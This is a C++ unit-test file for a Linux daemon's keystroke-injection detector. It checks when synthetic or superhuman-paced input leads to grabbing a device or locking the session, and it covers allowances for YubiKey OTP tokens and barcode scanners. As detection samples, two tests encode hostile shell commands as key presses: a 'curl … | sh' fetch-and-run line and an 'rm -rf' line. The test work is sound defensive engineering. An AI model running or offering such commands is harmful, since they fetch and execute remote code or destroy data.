// SPDX-License-Identifier: MIT
// PolicyDecider: frames and session state in, the actions for the daemon
// out, in order — without a daemon, a bus or a device.

#include "decider.h"

#include <linux/input-event-codes.h>

#include <gtest/gtest.h>

#include <map>
#include <string>
#include <vector>

using namespace tactus;

namespace {

using Kind = PolicyAction::Kind;

// The daemon's side, reduced to what the decider needs: its devices, one
// session, and a record of the actions it would carry out.
struct Harness {
	std::map<DeviceId, PolicyDevice> devices;
	PolicySession session;
	bool haveSession = true;
	bool locked = false;
	unsigned lookups = 0;
	PolicyDecider decider;

	explicit Harness(PolicySettings settings)
	    : decider(settings, [this](const std::function<void(const PolicyDevice &)> &visit) {
		      for (const auto &[id, device] : devices)
			      visit(device);
	      })
	{
	}

	PolicyDevice &add(DeviceId id, Provenance provenance, bool keyboard, bool pointer = false,
			  std::map<std::string, std::string> udev = {}, uint64_t nowUsec = 0)
	{
		PolicyDevice device;
		device.id = id;
		device.info.sysname = "event" + std::to_string(id);
		device.info.provenance = provenance;
		device.info.caps.keyboard = keyboard;
		device.info.caps.pointer = pointer;
		device.info.udevProperties = std::move(udev);
		PolicyDevice &stored = devices.insert_or_assign(id, std::move(device)).first->second;
		decider.deviceAdded(stored, AllowPolicy{}, nowUsec);
		return stored;
	}

	// One frame; a Grab action is carried out (as the daemon does when
	// EVIOCGRAB succeeds).
	std::vector<PolicyAction> frame(DeviceId id, std::vector<InputEvent> events)
	{
		PolicyDevice &device = devices.at(id);
		auto actions = decider.frame(device, events, [this] {
			lookups++;
			SessionContext context;
			if (haveSession) {
				context.state = &session;
				context.locked = locked;
			}
			return context;
		});
		for (const auto &a : actions)
			if (a.kind == Kind::Grab)
				PolicyDecider::grabbed(device, a.reason);
		return actions;
	}
};

// Irregular, human-like intervals in [lo, lo + span) ms, deterministic.
struct Jitter {
	uint32_t state = 12345;
	uint64_t next(uint64_t lo, uint64_t span)
	{
		state = state * 1103515245u + 12345u;
		return lo + (state >> 16) % span;
	}
};

InputEvent key(uint64_t ms, uint16_t code, int32_t value)
{
	return InputEvent{ms * 1000, EV_KEY, code, value};
}

InputEvent syn(uint64_t ms)
{
	return InputEvent{ms * 1000, EV_SYN, SYN_REPORT, 0};
}

std::vector<Kind> kinds(const std::vector<PolicyAction> &actions)
{
	std::vector<Kind> out;
	for (const auto &a : actions)
		out.push_back(a.kind);
	return out;
}

PolicySettings enforce(bool grab = true, bool lock = true)
{
	PolicySettings s;
	s.enforce = true;
	s.grabOnInjected = grab;
	s.lockOnInjected = lock;
	return s;
}

// A script typing at USB-poll pace: each key held one 1 ms poll, 20 ms apart.
std::vector<std::vector<InputEvent>> scriptFrames(unsigned keys, uint64_t startMs = 1000)
{
	std::vector<std::vector<InputEvent>> frames;
	const uint16_t codes[] = {KEY_Q, KEY_W, KEY_E, KEY_R, KEY_T, KEY_Y};
	for (unsigned i = 0; i < keys; i++) {
		const uint64_t t = startMs + i * 20;
		const uint16_t code = codes[i % 6];
		frames.push_back({key(t, code, 1), syn(t)});
		frames.push_back({key(t + 1, code, 0), syn(t + 1)});
	}
	return frames;
}

} // namespace

TEST(PolicyDecider, AllowedFollowsUdevThenAllowListThenProvenance)
{
	Harness h(PolicySettings{});
	EXPECT_TRUE(h.add(1, Provenance::Hardware, true).allowed);
	EXPECT_EQ(h.devices.at(1).allowedWhy, "hardware");
	EXPECT_FALSE(h.add(2, Provenance::Uinput, true).allowed);
	EXPECT_EQ(h.devices.at(2).allowedWhy, "synthetic, not allow-listed");
	EXPECT_TRUE(h.add(3, Provenance::Uinput, true, false, {{"TACTUS_TRUST", "allow"}}).allowed);
	EXPECT_EQ(h.devices.at(3).allowedWhy, "udev TACTUS_TRUST=allow");
	EXPECT_FALSE(h.add(4, Provenance::Hardware, true, false, {{"TACTUS_TRUST", "deny"}}).allowed);
	EXPECT_EQ(h.devices.at(4).allowedWhy, "udev TACTUS_TRUST=deny");

	auto allow = AllowPolicy::parse("[Match]\nProvenance=uinput\nName=event5\n[Decision]\nAllow=yes\n", "t.rules");
	if (allow) {
		PolicyDevice d;
		d.info.sysname = "event5";
		d.info.name = "event5";
		d.info.provenance = Provenance::Uinput;
		decideAllowed(d, *allow);
		EXPECT_TRUE(d.allowed) << d.allowedWhy;
	}
}

TEST(PolicyDecider, UnequivocalReasons)
{
	EXPECT_TRUE(isUnequivocal("synthetic-device"));
	EXPECT_TRUE(isUnequivocal("denied-device"));
	// Timing is a threshold on a statistic: tap-hold firmware or a radio can
	// put a person across it (issue 11), so it never grabs the only keyboard.
	EXPECT_FALSE(isUnequivocal("superhuman-rate"));
	EXPECT_FALSE(isUnequivocal("too-regular"));
	EXPECT_FALSE(isUnequivocal("new-keyboard-burst"));
	EXPECT_FALSE(isUnequivocal("robotic-pointer"));
}

TEST(PolicyDecider, MonitorModeOnlyPublishes)
{
	Harness h(PolicySettings{});
	h.add(1, Provenance::Uinput, true);
	auto actions = h.frame(1, {key(10, KEY_A, 1), syn(10)});
	ASSERT_EQ(kinds(actions), std::vector<Kind>{Kind::VerdictChanged});
	EXPECT_EQ(actions[0].reason, "synthetic-device");
	EXPECT_EQ(actions[0].describe(), "synthetic, not allow-listed");
	EXPECT_EQ(verdictName(h.session.evidence.state().verdict), "injected");
	// The same evidence again changes nothing.
	EXPECT_TRUE(h.frame(1, {key(20, KEY_A, 0), syn(20)}).empty());
	EXPECT_FALSE(h.session.lockRequested);
}

TEST(PolicyDecider, SyntheticKeyboardInEnforceModeWaitsForItsKeyThenGrabsAndLocksOnce)
{
	Harness h(enforce());
	h.add(1, Provenance::Hardware, true);
	h.add(2, Provenance::Uinput, true);
	// The press is delivered to everyone; the grab waits for the release.
	auto actions = h.frame(2, {key(10, KEY_A, 1), syn(10)});
	EXPECT_EQ(kinds(actions), (std::vector<Kind>{Kind::GrabWaits, Kind::VerdictChanged, Kind::LockSession}));
	EXPECT_EQ(h.devices.at(2).grabPending, "synthetic-device");
	actions = h.frame(2, {key(15, KEY_A, 0), syn(15)});
	ASSERT_EQ(kinds(actions), std::vector<Kind>{Kind::Grab});
	EXPECT_EQ(actions[0].reason, "synthetic-device");
	EXPECT_TRUE(h.devices.at(2).grabbed);
	EXPECT_TRUE(h.devices.at(2).grabPending.empty());
	// Locked once per verdict: more input asks for nothing more.
	EXPECT_TRUE(h.frame(2, {key(30, KEY_B, 1), syn(30)}).empty());
	// Re-authentication restarts trust, and the next evidence locks again.
	EXPECT_TRUE(PolicyDecider::reauthenticated(h.session, 35000));
	PolicyDecider::released(h.devices.at(2));
	actions = h.frame(2, {key(40, KEY_B, 0), syn(40)});
	EXPECT_EQ(kinds(actions), (std::vector<Kind>{Kind::Grab, Kind::VerdictChanged, Kind::LockSession}));
}

// Issue 14, crash safety: a daemon killed and restarted gave an injected
// session back as `learning`, and would have asked logind to lock it again.
TEST(PolicyDecider, RestartKeepsTheInjectedVerdictAndTheStandingLock)
{
	Harness h(enforce());
	h.add(1, Provenance::Hardware, true);
	h.add(2, Provenance::Uinput, true);
	h.frame(2, {key(10, KEY_A, 1), syn(10)});
	ASSERT_EQ(h.session.evidence.state().verdict, Verdict::Injected);
	ASSERT_TRUE(h.session.lockRequested);
	const SessionSnapshot saved = PolicyDecider::snapshot("c2", h.session);
	EXPECT_EQ(saved.id, "c2");
	EXPECT_EQ(saved.injectionReasons, std::vector<std::string>{"synthetic-device"});

	// The new daemon: the session afresh, then its saved evidence.
	Harness after(enforce());
	after.add(1, Provenance::Hardware, true);
	EXPECT_EQ(after.session.evidence.state().verdict, Verdict::Learning);
	EXPECT_TRUE(after.decider.restore(after.session, saved, 50000));
	EXPECT_EQ(after.session.evidence.state(), h.session.evidence.state());
	// The lock was asked for before the restart: not again.
	after.add(3, Provenance::Uinput, true);
	EXPECT_EQ(kinds(after.frame(3, {key(100, KEY_B, 1), syn(100)})), std::vector<Kind>{Kind::GrabWaits});
}

// Issue 11 item 9: lockers (GNOME Shell, KDE, swaylock) never call
// AcknowledgeReauthentication. Before, the first lock was the last: a second
// attack after the person unlocked went unanswered.
TEST(PolicyDecider, UnlockReArmsTheLock)
{
	Harness h(enforce(false, true));
	h.add(1, Provenance::Hardware, true);
	h.add(2, Provenance::Uinput, true);
	EXPECT_EQ(kinds(h.frame(2, {key(10, KEY_A, 1), syn(10)})),
		  (std::vector<Kind>{Kind::VerdictChanged, Kind::LockSession}));
	h.locked = true; // logind: Lock
	EXPECT_TRUE(h.frame(2, {key(20, KEY_A, 0), syn(20)}).empty());
	// Unlocked, but nobody told the decider: the old behaviour, no lock.
	h.locked = false;
	EXPECT_TRUE(h.frame(2, {key(30, KEY_B, 1), syn(30)}).empty());
	// The daemon passes logind's unlock on: the second attack locks again.
	EXPECT_TRUE(PolicyDecider::unlocked(h.session));
	EXPECT_FALSE(PolicyDecider::unlocked(h.session)); // nothing standing any more
	h.add(3, Provenance::Uinput, true);
	EXPECT_EQ(kinds(h.frame(3, {key(40, KEY_C, 1), syn(40)})), std::vector<Kind>{Kind::LockSession});
	// And only once until the next unlock.
	EXPECT_TRUE(h.frame(3, {key(50, KEY_C, 0), syn(50)}).empty());
}

TEST(PolicyDecider, HeldKeyDoesNotPutTheGrabOffPastTheNextPress)
{
	Harness h(enforce(true, false));
	h.add(1, Provenance::Uinput, true);
	EXPECT_EQ(kinds(h.frame(1, {key(10, KEY_LEFTSHIFT, 1), syn(10)})),
		  (std::vector<Kind>{Kind::GrabWaits, Kind::VerdictChanged}));
	// Shift stays down; the next press grabs.
	EXPECT_EQ(kinds(h.frame(1, {key(20, KEY_A, 1), syn(20)})), std::vector<Kind>{Kind::Grab});
}

TEST(PolicyDecider, NoActiveSessionNoEvidenceButDetectorsRun)
{
	Harness h(enforce());
	h.haveSession = false;
	h.add(1, Provenance::Hardware, true);
	for (const auto &f : scriptFrames(12))
		EXPECT_TRUE(h.frame(1, f).empty());
	EXPECT_EQ(h.devices.at(1).keyPresses, 12u);
	EXPECT_EQ(verdictName(h.session.evidence.state().verdict), "learning");
	EXPECT_GT(h.lookups, 0u);
}

TEST(PolicyDecider, SessionLookedUpOnlyOnEvidence)
{
	Harness h(PolicySettings{});
	h.add(1, Provenance::Hardware, true);
	// Human-paced typing: no evidence, no lookup.
	Jitter j;
	uint64_t t = 1000;
	for (unsigned i = 0; i < 40; i++) {
		t += j.next(120, 200);
		const uint64_t up = t + j.next(60, 70);
		EXPECT_TRUE(h.frame(1, {key(t, KEY_A + (i % 3), 1), syn(t)}).empty());
		EXPECT_TRUE(h.frame(1, {key(up, KEY_A + (i % 3), 0), syn(up)}).empty());
	}
	EXPECT_EQ(h.lookups, 0u);
}

TEST(PolicyDecider, ScriptOnHardwareKeyboardConvictedAtTheInstantDwellRun)
{
	Harness h(enforce());
	h.add(1, Provenance::Hardware, true);
	h.add(2, Provenance::Hardware, true);
	std::vector<PolicyAction> first;
	unsigned frames = 0;
	const unsigned run = KeystrokeTimingConfig{}.instantDwellRun;
	for (const auto &f : scriptFrames(run)) {
		auto actions = h.frame(2, f);
		frames++;
		if (!actions.empty() && first.empty())
			first = actions;
	}
	ASSERT_FALSE(first.empty());
	// Decided on the release of the run's last key: grab now (no key is
	// down; another keyboard is there), then the verdict, then the lock.
	EXPECT_EQ(kinds(first), (std::vector<Kind>{Kind::Grab, Kind::VerdictChanged, Kind::LockSession}));
	EXPECT_EQ(first[1].reason, "superhuman-rate");
	EXPECT_EQ(first[1].atKeyPress, run);
	EXPECT_NE(first[1].describe().find("at key press " + std::to_string(run) + " of the device"), std::string::npos)
		<< first[1].describe();
	EXPECT_TRUE(h.devices.at(2).grabbed);
	EXPECT_FALSE(h.devices.at(1).grabbed);
}

TEST(PolicyDecider, OnlyKeyboardOfASeatIsNotGrabbedOnEquivocalEvidence)
{
	PolicyDevice device;
	device.id = 1;
	device.info.caps.keyboard = true;
	std::vector<PolicyDevice> others;
	const ForEachPolicyDevice each = [&others, &device](const std::function<void(const PolicyDevice &)> &visit) {
		visit(device);
		for (const auto &o : others)
			visit(o);
	};
	std::string why;
	EXPECT_TRUE(mayGrab(device, "synthetic-device", each, why));
	EXPECT_FALSE(mayGrab(device, "superhuman-rate", each, why));
	EXPECT_EQ(why, "it is the only keyboard on seat0 and superhuman-rate is not unequivocal");
	EXPECT_FALSE(mayGrab(device, "too-regular", each, why));
	EXPECT_EQ(why, "it is the only keyboard on seat0 and too-regular is not unequivocal");

	// A second keyboard on another seat, grabbed, or not allowed does not count.
	PolicyDevice other;
	other.id = 2;
	other.info.caps.keyboard = true;
	other.info.seat = "seat1";
	others.push_back(other);
	other.info.seat = "seat0";
	other.id = 3;
	other.grabbed = true;
	others.push_back(other);
	other.id = 4;
	other.grabbed = false;
	other.allowed = false;
	others.push_back(other);
	EXPECT_FALSE(mayGrab(device, "new-keyboard-burst", each, why));
	other.id = 5;
	other.allowed = true;
	others.push_back(other);
	EXPECT_TRUE(mayGrab(device, "new-keyboard-burst", each, why));

	// A pointer needs another pointer.
	device.info.caps.keyboard = false;
	device.info.caps.pointer = true;
	EXPECT_FALSE(mayGrab(device, "robotic-pointer", each, why));
	EXPECT_EQ(why, "it is the only pointer on seat0 and robotic-pointer is not unequivocal");
}

TEST(PolicyDecider, RefusedGrabIsDecidedOnce)
{
	Harness h(enforce(true, false));
	h.add(1, Provenance::Hardware, true);
	// Too regular but human-length holds: fixed 100 ms cadence, 60 ms holds.
	std::vector<std::vector<Kind>> seen;
	for (unsigned i = 0; i < 30; i++) {
		const uint64_t t = 1000 + i * 100;
		auto a = h.frame(1, {key(t, KEY_A + (i % 5), 1), syn(t)});
		if (!a.empty())
			seen.push_back(kinds(a));
		a = h.frame(1, {key(t + 60, KEY_A + (i % 5), 0), syn(t + 60)});
		if (!a.empty())
			seen.push_back(kinds(a));
	}
	ASSERT_FALSE(seen.empty());
	EXPECT_EQ(seen[0], (std::vector<Kind>{Kind::GrabRefused, Kind::VerdictChanged}));
	for (size_t i = 1; i < seen.size(); i++)
		for (Kind k : seen[i])
			EXPECT_NE(k, Kind::GrabRefused);
	EXPECT_TRUE(h.devices.at(1).grabRefused);
	EXPECT_FALSE(h.devices.at(1).grabbed);
}

TEST(PolicyDecider, MonitorModeDropsAWaitingGrab)
{
	Harness h(enforce());
	h.add(1, Provenance::Uinput, true);
	h.frame(1, {key(10, KEY_A, 1), syn(10)});
	ASSERT_EQ(h.devices.at(1).grabPending, "synthetic-device");
	h.decider.setEnforce(false, [&h](const std::function<void(PolicyDevice &)> &visit) {
		for (auto &[id, d] : h.devices)
			visit(d);
	});
	EXPECT_TRUE(h.devices.at(1).grabPending.empty());
	EXPECT_TRUE(h.frame(1, {key(15, KEY_A, 0), syn(15)}).empty());
	EXPECT_FALSE(h.devices.at(1).grabbed);
}

TEST(PolicyDecider, LockedSessionIsNotLockedAgain)
{
	Harness h(enforce(false, true));
	h.locked = true;
	h.add(1, Provenance::Uinput, true);
	EXPECT_EQ(kinds(h.frame(1, {key(10, KEY_A, 1), syn(10)})), std::vector<Kind>{Kind::VerdictChanged});
}

TEST(PolicyDecider, BareSynOrLedFrameFromSyntheticDeviceIsNoEvidence)
{
	Harness h(enforce());
	h.add(1, Provenance::Uinput, true);
	EXPECT_TRUE(h.frame(1, {InputEvent{1000, EV_LED, LED_CAPSL, 1}, syn(1)}).empty());
	EXPECT_EQ(verdictName(h.session.evidence.state().verdict), "learning");
}

TEST(PolicyDecider, NewKeyboardBurstOnlyForKeyboardsAddedAfterStart)
{
	Harness h(PolicySettings{});
	h.add(1, Provenance::Hardware, true);
	// Human typing on the first keyboard.
	Jitter j;
	uint64_t t = 1'000;
	for (unsigned i = 0; i < 10; i++) {
		t += j.next(150, 150);
		h.frame(1, {key(t, KEY_A, 1), syn(t)});
		h.frame(1, {key(t + 90, KEY_A, 0), syn(t + 90)});
	}
	// A keyboard plugged in at 4 s types a sustained burst at once, fast
	// but with human-looking holds and irregular gaps.
	h.add(2, Provenance::Hardware, true, false, {}, 4'000'000);
	std::string reason;
	t = 4'100;
	for (unsigned i = 0; i < 40 && reason.empty(); i++) {
		t += j.next(40, 40);
		const uint64_t up = t + j.next(30, 30);
		for (const auto &f : {std::vector<InputEvent>{key(t, KEY_A + (i % 7), 1), syn(t)},
				      std::vector<InputEvent>{key(up, KEY_A + (i % 7), 0), syn(up)}})
			for (const auto &a : h.frame(2, f))
				if (a.kind == Kind::VerdictChanged)
					reason = a.reason;
	}
	EXPECT_EQ(reason, "new-keyboard-burst");
}

// Issue 11, item 6: an absolute pointer's axis ranges come from its absinfo
// when it is added, so jumps across its range are seen as teleports (before,
// the range stayed 0..0 in the daemon and no teleport ever fired).
TEST(PolicyDecider, AbsolutePointerRangesFromAbsinfoMakeTeleportsCount)
{
	for (bool withRanges : {true, false}) {
		Harness h(PolicySettings{});
		PolicyDevice device;
		device.id = 7;
		device.info.sysname = "event7";
		device.info.provenance = Provenance::Hardware;
		device.info.caps.absPointer = true;
		if (withRanges) {
			device.info.absAxes[ABS_X] = AbsAxis{0, 32767, 0};
			device.info.absAxes[ABS_Y] = AbsAxis{0, 32767, 0};
		}
		PolicyDevice &stored = h.devices.insert_or_assign(7, std::move(device)).first->second;
		h.decider.deviceAdded(stored, AllowPolicy{}, 0);
		const int spots[][2] = {{1000, 1000}, {30000, 2000}, {5000, 30000}, {25000, 25000}};
		uint64_t t = 1'000'000;
		std::string reason;
		for (const auto &p : spots) {
			// Jump, then click where it landed: a script's move-and-click.
			auto actions = h.frame(
				7, {{t, EV_ABS, ABS_X, p[0]}, {t, EV_ABS, ABS_Y, p[1]}, {t, EV_SYN, SYN_REPORT, 0}});
			auto click =
				h.frame(7, {{t + 20'000, EV_KEY, BTN_LEFT, 1}, {t + 20'000, EV_SYN, SYN_REPORT, 0}});
			actions.insert(actions.end(), click.begin(), click.end());
			h.frame(7, {{t + 90'000, EV_KEY, BTN_LEFT, 0}, {t + 90'000, EV_SYN, SYN_REPORT, 0}});
			for (const auto &a : actions)
				if (a.kind == Kind::VerdictChanged)
					reason = a.reason;
			t += 200'000;
		}
		EXPECT_EQ(reason, withRanges ? "robotic-pointer" : "") << "ranges " << withRanges;
		if (withRanges) {
			EXPECT_EQ(verdictName(h.session.evidence.state().verdict), "injected");
		}
	}
}
namespace {

// Keystrokes as frames, one report per frame: each key down `holdUs`, the
// next pressed `gapUs` after this one's press.
std::vector<std::vector<InputEvent>> typedFrames(const std::vector<uint16_t> &codes, uint64_t startUs, uint64_t gapUs,
						 uint64_t holdUs)
{
	std::vector<std::pair<uint64_t, InputEvent>> events;
	for (size_t i = 0; i < codes.size(); i++) {
		const uint64_t t = startUs + i * gapUs;
		events.push_back({t, InputEvent{t, EV_KEY, codes[i], 1}});
		events.push_back({t + holdUs, InputEvent{t + holdUs, EV_KEY, codes[i], 0}});
	}
	std::stable_sort(events.begin(), events.end(), [](const auto &a, const auto &b) { return a.first < b.first; });
	std::vector<std::vector<InputEvent>> frames;
	for (const auto &[t, ev] : events)
		frames.push_back({ev, InputEvent{t, EV_SYN, SYN_REPORT, 0}});
	return frames;
}

// Modhex letters (c b d e f g h i j k l n r t u v) drawn at random, then Enter:
// what a YubiKey OTP touch types.
std::vector<uint16_t> otpKeys(unsigned letters, uint64_t seed)
{
	const uint16_t modhex[] = {KEY_C, KEY_B, KEY_D, KEY_E, KEY_F, KEY_G, KEY_H, KEY_I,
				   KEY_J, KEY_K, KEY_L, KEY_N, KEY_R, KEY_T, KEY_U, KEY_V};
	std::vector<uint16_t> out;
	uint64_t s = seed;
	for (unsigned i = 0; i < letters; i++) {
		s = s * 6364136223846793005ULL + 1442695040888963407ULL;
		uint16_t code = modhex[(s >> 33) % 16];
		if (!out.empty() && code == out.back())
			code = modhex[((s >> 33) + 1) % 16];
		out.push_back(code);
	}
	out.push_back(KEY_ENTER);
	return out;
}

const char *kYubiKeyRule = "[YubiKey OTP]\n"
			   "MatchVendor=0x1050\n"
			   "MatchProduct=0x0407\n"
			   "MatchProvenance=hardware\n"
			   "Allow=yes\n"
			   "AllowBurstKeystrokes=49\n"
			   "AllowBurstKeys=modhex enter\n";

// Runs @p frames on device @p id; the verdict afterwards.
std::string runFrames(Harness &h, DeviceId id, const std::vector<std::vector<InputEvent>> &frames)
{
	for (const auto &f : frames)
		h.frame(id, f);
	return std::string(verdictName(h.session.evidence.state().verdict));
}

PolicyDevice &addWithPolicy(Harness &h, DeviceId id, const AllowPolicy &policy, uint16_t vendor, uint16_t product,
			    Provenance provenance = Provenance::Hardware)
{
	PolicyDevice device;
	device.id = id;
	device.info.sysname = "event" + std::to_string(id);
	device.info.provenance = provenance;
	device.info.caps.keyboard = true;
	device.info.bustype = 3;
	device.info.vendor = vendor;
	device.info.product = product;
	PolicyDevice &stored = h.devices.insert_or_assign(id, std::move(device)).first->second;
	h.decider.deviceAdded(stored, policy, 0);
	return stored;
}

} // namespace

// Issue 11 item 2: `Allow=yes` alone changes nothing for a hardware OTP
// token; the bounded allowance lets its bursts through, and nothing else.
TEST(PolicyDecider, YubiKeyOtpBurstWithinAllowanceIsNotInjection)
{
	auto plain = AllowPolicy::parse("[YubiKey]\nMatchVendor=0x1050\nMatchProduct=0x0407\n"
					"MatchProvenance=hardware\nAllow=yes\n",
					"otp.rules");
	auto bounded = AllowPolicy::parse(kYubiKeyRule, "otp.rules");
	ASSERT_TRUE(plain && bounded);
	for (unsigned letters : {32u, 44u, 48u}) {
		// One report per 8 ms poll: down one poll, up one: 16 ms per character.
		const auto frames = typedFrames(otpKeys(letters, letters), 1'000'000, 16'000, 8'000);
		Harness without(PolicySettings{});
		addWithPolicy(without, 1, *plain, 0x1050, 0x0407);
		EXPECT_EQ(runFrames(without, 1, frames), "injected") << letters;

		Harness with(PolicySettings{});
		PolicyDevice &d = addWithPolicy(with, 1, *bounded, 0x1050, 0x0407);
		ASSERT_TRUE(d.burstAllowance.has_value());
		EXPECT_EQ(runFrames(with, 1, frames), "learning") << letters;
		// A second touch later is a new burst.
		EXPECT_EQ(runFrames(with, 1, typedFrames(otpKeys(letters, 7), 5'000'000, 16'000, 8'000)), "learning");
	}
}

TEST(PolicyDecider, SpoofedYubiKeyTypingACommandIsInjection)
{
	auto bounded = AllowPolicy::parse(kYubiKeyRule, "otp.rules");
	ASSERT_TRUE(bounded);
	// A BadUSB with Yubico's ids typing `curl -s h.x/i|sh` and Enter at the
	// same pace: the space is no modhex letter.
	const std::vector<uint16_t> command = {KEY_C, KEY_U,         KEY_R,         KEY_L,   KEY_SPACE, KEY_MINUS,
					       KEY_S, KEY_SPACE,     KEY_H,         KEY_DOT, KEY_X,     KEY_SLASH,
					       KEY_I, KEY_LEFTSHIFT, KEY_BACKSLASH, KEY_S,   KEY_H,     KEY_ENTER};
	Harness h(enforce());
	h.add(2, Provenance::Hardware, true); // the person's keyboard
	addWithPolicy(h, 1, *bounded, 0x1050, 0x0407);
	EXPECT_EQ(runFrames(h, 1, typedFrames(command, 1'000'000, 16'000, 8'000)), "injected");
	EXPECT_TRUE(h.devices.at(1).grabbed);

	// Only modhex letters, but longer than the allowance: caught when the
	// burst passes 49 presses.
	Harness longer(PolicySettings{});
	addWithPolicy(longer, 1, *bounded, 0x1050, 0x0407);
	const auto keys = otpKeys(80, 3);
	EXPECT_EQ(runFrames(longer, 1, typedFrames(keys, 1'000'000, 16'000, 8'000)), "injected");

	// Another device with the allowance's ids but typing slower raises nothing either way.
	Harness other(PolicySettings{});
	addWithPolicy(other, 1, *bounded, 0x1050, 0x0408);
	EXPECT_FALSE(other.devices.at(1).burstAllowance.has_value());
}

TEST(PolicyDecider, BarcodeScannerBurstWithinAllowance)
{
	auto scanner = AllowPolicy::parse("[Scanner]\nMatchVendor=0x05e0\nMatchProduct=0x1200\n"
					  "MatchProvenance=hardware\nAllow=yes\n"
					  "AllowBurstKeystrokes=14\nAllowBurstKeys=digits enter\n",
					  "scan.rules");
	ASSERT_TRUE(scanner);
	const uint16_t digits[] = {KEY_0, KEY_1, KEY_2, KEY_3, KEY_4, KEY_5, KEY_6, KEY_7, KEY_8, KEY_9};
	for (unsigned n : {8u, 13u}) {
		for (uint64_t perChar : {3'000u, 8'000u}) {
			std::vector<uint16_t> code;
			for (unsigned i = 0; i < n; i++)
				code.push_back(digits[(i * 7 + n) % 10]);
			code.push_back(KEY_ENTER);
			Harness h(PolicySettings{});
			addWithPolicy(h, 1, *scanner, 0x05e0, 0x1200);
			// Several scans a few seconds apart.
			for (uint64_t scan = 0; scan < 5; scan++)
				EXPECT_EQ(runFrames(h, 1,
						    typedFrames(code, 1'000'000 + scan * 3'000'000, perChar, 1'000)),
					  "learning")
					<< n << " digits at " << perChar << " us";
		}
	}
	// Letters from the scanner's ids are no scan.
	Harness h(PolicySettings{});
	addWithPolicy(h, 1, *scanner, 0x05e0, 0x1200);
	EXPECT_EQ(runFrames(h, 1,
			    typedFrames({KEY_R, KEY_M, KEY_SPACE, KEY_MINUS, KEY_R, KEY_F, KEY_SPACE, KEY_SLASH, KEY_1,
					 KEY_2, KEY_3, KEY_4, KEY_ENTER},
					1'000'000, 3'000, 1'000)),
		  "injected");
}

// Remappers: an allowed remapper's uinput device carries the person's
// typing, and timing is checked on it as on any keyboard.
TEST(PolicyDecider, AllowedRemapperDeviceStillGetsTimingChecks)
{
	auto keyd = AllowPolicy::parse("[keyd]\nMatchCreatorExe=/usr/bin/keyd\nMatchCreatorUnit=keyd.service\n"
				       "MatchCreatorUid=0\nMatchProvenance=uinput\nAllow=yes\n",
				       "keyd.rules");
	ASSERT_TRUE(keyd);
	auto make = [&](Harness &h) -> PolicyDevice & {
		PolicyDevice device;
		device.id = 1;
		device.info.sysname = "event1";
		device.info.name = "keyd virtual keyboard";
		device.info.provenance = Provenance::Uinput;
		device.info.caps.keyboard = true;
		CreatorProcess keydProcess;
		keydProcess.exe = "/usr/bin/keyd";
		keydProcess.unit = "keyd.service";
		keydProcess.uid = 0;
		device.info.creators.push_back(keydProcess);
		PolicyDevice &stored = h.devices.insert_or_assign(1, std::move(device)).first->second;
		h.decider.deviceAdded(stored, *keyd, 0);
		return stored;
	};
	// The person's typing through keyd, with its tap artefacts (home-row
	// taps re-emitted as one-poll taps): nothing.
	{
		Harness h(PolicySettings{});
		PolicyDevice &d = make(h);
		ASSERT_TRUE(d.allowed) << d.allowedWhy;
		Jitter j;
		uint64_t t = 1'000'000;
		const uint16_t keys[] = {KEY_S, KEY_A, KEY_L, KEY_A, KEY_D, KEY_SPACE, KEY_W, KEY_O, KEY_R, KEY_K};
		std::vector<std::vector<InputEvent>> frames;
		for (unsigned i = 0; i < 200; i++) {
			const uint16_t code = keys[i % 10];
			const bool homeRow = code == KEY_S || code == KEY_A || code == KEY_L || code == KEY_D;
			const uint64_t hold = homeRow ? 1'000 : j.next(60, 60) * 1000;
			frames.push_back({InputEvent{t, EV_KEY, code, 1}, InputEvent{t, EV_SYN, SYN_REPORT, 0}});
			frames.push_back(
				{InputEvent{t + hold, EV_KEY, code, 0}, InputEvent{t + hold, EV_SYN, SYN_REPORT, 0}});
			t += j.next(90, 130) * 1000 + hold;
		}
		EXPECT_EQ(runFrames(h, 1, frames), "learning");
	}
	// A script typed into keyd's device (`keyd do`, a broker): superhuman.
	{
		Harness h(PolicySettings{});
		make(h);
		EXPECT_EQ(runFrames(h, 1, scriptFrames(30)), "injected");
		EXPECT_EQ(h.session.evidence.state().reasons.front(), "superhuman-rate");
	}
}

// Issue 11 item 1: a person on a tap-hold board is never locked out of
// their only keyboard. Even if evidence came, superhuman-rate no longer
// grabs the only keyboard.
TEST(PolicyDecider, OnlyKeyboardWithTapHoldFirmwareIsNotConvicted)
{
	Harness h(enforce());
	h.add(1, Provenance::Hardware, true);
	Jitter j;
	uint64_t t = 1'000'000;
	// "sad lass flask" style words: four home-row taps in a row, 1 ms holds.
	const uint16_t keys[] = {KEY_S, KEY_A, KEY_D, KEY_F,     KEY_SPACE, KEY_L,
				 KEY_A, KEY_S, KEY_S, KEY_SPACE, KEY_W,     KEY_E};
	std::vector<std::vector<InputEvent>> frames;
	for (unsigned i = 0; i < 600; i++) {
		const uint16_t code = keys[i % 12];
		const bool homeRow = code == KEY_S || code == KEY_A || code == KEY_D || code == KEY_F || code == KEY_L;
		const uint64_t hold = homeRow ? 1'000 : j.next(60, 60) * 1000;
		frames.push_back({InputEvent{t, EV_KEY, code, 1}, InputEvent{t, EV_SYN, SYN_REPORT, 0}});
		frames.push_back({InputEvent{t + hold, EV_KEY, code, 0}, InputEvent{t + hold, EV_SYN, SYN_REPORT, 0}});
		t += j.next(90, 130) * 1000;
	}
	for (const auto &f : frames)
		for (const auto &a : h.frame(1, f))
			ADD_FAILURE() << "action " << static_cast<int>(a.kind) << " " << a.reason << " "
				      << a.describe();
	EXPECT_FALSE(h.devices.at(1).grabbed);

	// A script on the only keyboard: injected and locked, but not grabbed.
	Harness only(enforce());
	only.add(1, Provenance::Hardware, true);
	std::vector<Kind> seen;
	for (const auto &f : scriptFrames(30))
		for (const auto &a : only.frame(1, f))
			seen.push_back(a.kind);
	EXPECT_EQ(seen, (std::vector<Kind>{Kind::GrabRefused, Kind::VerdictChanged, Kind::LockSession}));
	EXPECT_FALSE(only.devices.at(1).grabbed);
}
